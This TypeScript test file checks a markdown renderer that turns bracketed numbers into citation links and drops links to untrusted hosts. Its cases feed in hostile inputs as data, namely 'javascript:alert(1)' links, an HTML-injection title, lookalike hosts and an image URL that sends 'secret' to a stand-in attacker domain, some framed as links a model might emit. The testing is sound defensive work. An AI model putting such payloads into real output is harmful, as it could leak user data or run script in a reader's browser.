import assert from "node:assert/strict";
import { test } from "node:test";
import type { Grounds } from "../src/markdown/contract";
import { cite } from "../src/sources/citations";
import { toGrounds, toSources, type Source } from "../src/sources/list";
import { html } from "./html";

const SOURCES: Source[] = [
  { n: 1, title: "Opening hours", url: "https://shop.test/hours#sunday" },
  { n: 2, title: "Shipping.pdf" },
  { n: 3, title: '"><img src=x>', url: "https://docs.test:8443/a" },
];
const groundsOf = (sources: Source[], ...addresses: string[]): Grounds => toGrounds(sources, addresses, (...at) => cite(sources, ...at));
const GROUNDS = groundsOf(SOURCES, "https://page.test/a", "https://api.test/v1/");
const shown = (text: string, growing?: boolean): string => html(text, growing, GROUNDS);

const A1 = '<a href="https://shop.test/hours#sunday" title="Opening hours">1</a>';
const A3 = '<a href="https://docs.test:8443/a" title="&quot;&gt;&lt;img src=x&gt;">3</a>';
const B2 = '<span title="Shipping.pdf">2</span>';

const CITED: Record<string, [markdown: string, html: string]> = {
  "a number behind a word": ["From ten [1].", `<p>From ten <sup>[${A1}]</sup>.</p>`],
  "a number without a space before it": ["十点[1]。ten[1]", `<p>十点<sup>[${A1}]</sup>。ten<sup>[${A1}]</sup></p>`],
  "a source without an address": ["A week [2]", `<p>A week <sup>[${B2}]</sup></p>`],
  "numbers beside each other": ["So [1][3]", `<p>So <sup>[${A1}]</sup><sup>[${A3}]</sup></p>`],
  "numbers in one pair of brackets": ["So [1, 2] or [1,3]", `<p>So <sup>[${A1}, ${B2}]</sup> or <sup>[${A1},${A3}]</sup></p>`],
  "a number of no source beside one that has": ["So [1, 7]", `<p>So <sup>[${A1}, 7]</sup></p>`],
  "a number of no source": ["So [7] and [7, 8], [0], [-1]", "<p>So [7] and [7, 8], [0], [-1]</p>"],
  "what is no number": ["【1】 [1.0] [1-3] [1,] [,1] [a1] [1 2] [^1] [1111] [] [ ]", "<p>【1】 [1.0] [1-3] [1,] [,1] [a1] [1 2] [^1] [1111] [] [ ]</p>"],
  "digits of other keyboards": [
    "[１、３] [٣] [۳] [३] [01]",
    `<p><sup>[${A1.replace("1<", "１<")}、${A3.replace("3<", "３<")}]</sup>${["٣", "۳", "३"].map((digit) => ` <sup>[${A3.replace("3<", digit + "<")}]</sup>`).join("")} <sup>[${A1.replace("1<", "01<")}]</sup></p>`,
  ],
  "digits of a number that no source has": ["[٩] [９] [१०]", "<p>[٩] [９] [१०]</p>"],
  "a number behind a backslash": ["\\[1]", "<p>[1]</p>"],
  "a number in code": ["`x[1]` and ``[1]``\n\n```\n[1]\n```", "<p><code>x[1]</code> and <code>[1]</code></p><pre><code>[1]\n</code></pre>"],
  "a number in bold, a heading, a list and a table": [
    "# A [1]\n\n- **b [1]**\n\n|c|\n|-|\n|[1]|",
    `<h1>A <sup>[${A1}]</sup></h1><ul><li><strong>b <sup>[${A1}]</sup></strong></li></ul><table><thead><tr><th>c</th></tr></thead><tbody><tr><td><sup>[${A1}]</sup></td></tr></tbody></table>`,
  ],
  "a number that a model gives an address": ["So [1](https://evil.test/) or [1](http://evil.test 'x').", `<p>So <sup>[${A1}]</sup> or <sup>[${A1}]</sup>.</p>`],
  "a number before words in brackets": ["So [1](sundays) [1](on sundays)", `<p>So <sup>[${A1}]</sup>(sundays) <sup>[${A1}]</sup>(on sundays)</p>`],
  "a number that a model defines": ["So [1] and [x][1].\n\n[1]: https://evil.test/", `<p>So <sup>[${A1}]</sup> and <span>x</span>.</p>`],
  "a number in a link's words": ["[[1]](https://evil.test/) [see [1]](https://shop.test/b)", `<p><span><sup>[${A1}]</sup></span> <a href="https://shop.test/b">see <sup>[<span>1</span>]</sup></a></p>`],
  "the address of a foreign page": ["[click](https://evil.test/?q=1) https://evil.test/a <https://evil.test/> www.evil.test", "<p><span>click</span> <span>https://evil.test/a</span> <span>https://evil.test/</span> <span>www.evil.test</span></p>"],
  "a foreign page in a definition": ["[click][x]\n\n[x]: https://evil.test/", "<p><span>click</span></p>"],
  "an image": ["![](https://evil.test/?q=secret) ![1](https://evil.test/) ![a](https://shop.test/a.png)", '<p><span>🖼 https://evil.test/?q=secret</span> <span>🖼 1</span> <a href="https://shop.test/a.png">🖼 a</a></p>'],
  "the site's own pages, the server's and the sources'": [
    "[a](/prices) [b](https://api.test/b) https://shop.test/c <https://docs.test:8443/d>",
    '<p><a href="https://page.test/prices">a</a> <a href="https://api.test/b">b</a> <a href="https://shop.test/c">https://shop.test/c</a> <a href="https://docs.test:8443/d">https://docs.test:8443/d</a></p>',
  ],
  "hosts that only look like them": [
    "[a](https://shop.test.evil.test/) [b](https://shop.test@evil.test/) [c](https://docs.test/) [d](//evil.test/)",
    "<p><span>a</span> <span>b</span> <span>c</span> <span>d</span></p>",
  ],
  "other schemes": ["[a](javascript:alert(1)) [b](mailto:a@b.test) tel:+491 a@b.test", "<p><span>a</span> <span>b</span> <span>tel:+491</span> <span>a@b.test</span></p>"],
};

for (const [name, [markdown, expected]] of Object.entries(CITED))
  test(`${name}, in an answer with sources`, () => {
    assert.equal(shown(markdown), expected);
  });

test("an answer that was given nothing links to the site's own pages alone", () => {
  const nothing = groundsOf([], "https://page.test/", "https://api.test/");

  assert.equal(html("[1] [a](/b) [c](https://shop.test/)", false, nothing), '<p>[1] <a href="https://page.test/b">a</a> <span>c</span></p>');
});

test("until numbers can be drawn they are text, and links are held against the sources all the same", () => {
  const unread = toGrounds(SOURCES, ["https://page.test/a"]);

  assert.equal(
    html("So [1], [1](https://evil.test/) [a](https://evil.test/) [b](https://shop.test/b)", false, unread),
    '<p>So [1], <span>1</span> <span>a</span> <a href="https://shop.test/b">b</a></p>',
  );
});

test("an answer without sources is read as ever", () => {
  assert.equal(html("[1] [a](https://evil.test/)"), '<p>[1] <a href="https://evil.test/">a</a></p>');
});

test("an answer that grows shows no bracket that is taken back, and no address that the whole has not", () => {
  const whole = "On **Sundays** from ten [1], else [1](https://evil.test/x) nine [1, 2].\n\n- See [the page](https://shop.test/b) or [this](https://evil.test/)[3]\n\n[1]: https://evil.test/";
  const words = (markup: string): string => markup.replace(/<[^>]*>/g, "");
  const links = (markup: string): string[] => [...markup.matchAll(/href="([^"]*)"/g)].map(([, address]) => address);
  for (let end = 0; end <= whole.length; end++) {
    const frame = shown(whole.slice(0, end), true);
    assert.ok(words(shown(whole)).startsWith(words(frame).trimEnd()), frame);
    for (const address of links(frame)) assert.ok(links(shown(whole)).includes(address), frame);
  }
});

for (const piece of ["[1]", "[1, 2]", "[1][", "[1](", "[1](x", "[1](https://a", "[[1]", "[1, ", "[1,1", "1,"])
  test(`16,000 characters of ${JSON.stringify(piece)} with 200 sources cost less than half a second`, () => {
    const many = groundsOf(Array.from({ length: 200 }, (_, i) => ({ n: i + 1, title: "A page", url: `https://shop.test/${i}` })));
    const text = piece.repeat(16000 / piece.length);
    const began = process.cpuUsage();

    html(text + "x", true, many);

    assert.ok(process.cpuUsage(began).user < 500_000);
  });

test("sources are read as they were sent, and one with an address that is none without it", () => {
  const url = (address: unknown) => toSources([{ n: 1, title: "A", url: address }])![0].url;

  assert.deepEqual(toSources([{ n: 1, title: "<b>A</b>", url: "https://shop.test/a#b", more: 1 }]), [{ n: 1, title: "<b>A</b>", url: "https://shop.test/a#b" }]);
  for (const odd of ["javascript:alert(1)", " JavaScript:alert(1)", "data:text/html,x", "//evil.test/", "/a", "", 7, null, {}, undefined]) assert.equal(url(odd), undefined);
});

test("what is no list of sources is none, which an empty list is not", () => {
  for (const odd of [undefined, null, 7, "x", {}]) assert.equal(toSources(odd), undefined);
  assert.deepEqual(toSources([null, 7, "x", [], {}, { n: "1", title: "A" }, { n: 1 }, { n: 0.5, title: "A" }]), []);
});
